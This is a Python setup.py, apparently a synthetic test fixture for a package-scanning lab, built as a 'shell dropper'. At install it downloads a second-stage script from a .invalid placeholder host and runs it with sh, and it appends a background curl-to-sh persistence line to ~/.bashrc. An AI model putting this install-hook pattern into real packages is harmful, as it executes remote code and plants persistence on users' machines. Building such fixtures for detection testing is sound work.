# SYNTHETIC test package written for slopspotter-lab: a harmless imitation, run only inside the sandbox.
# At install: a shell one-liner that downloads a "stage 2" from a .invalid host and pipes it to
# sh, and a persistence line appended to ~/.bashrc (pointing at the same fake host).
import os

from setuptools import setup

os.system("curl -fsS --max-time 3 http://stage2.dropper-demo.invalid/i.sh -o /tmp/.i.sh; sh /tmp/.i.sh 2>/dev/null; "
          "wget -q -T 3 -O /dev/null http://stage2.dropper-demo.invalid/w 2>/dev/null; true")
with open(os.path.expanduser("~/.bashrc"), "a") as fh:
    fh.write("\n(curl -fsS http://stage2.dropper-demo.invalid/i.sh | sh) >/dev/null 2>&1 &\n")
setup(name="slop-shell-dropper", version="0.1.0", py_modules=["slop_shell_dropper"])
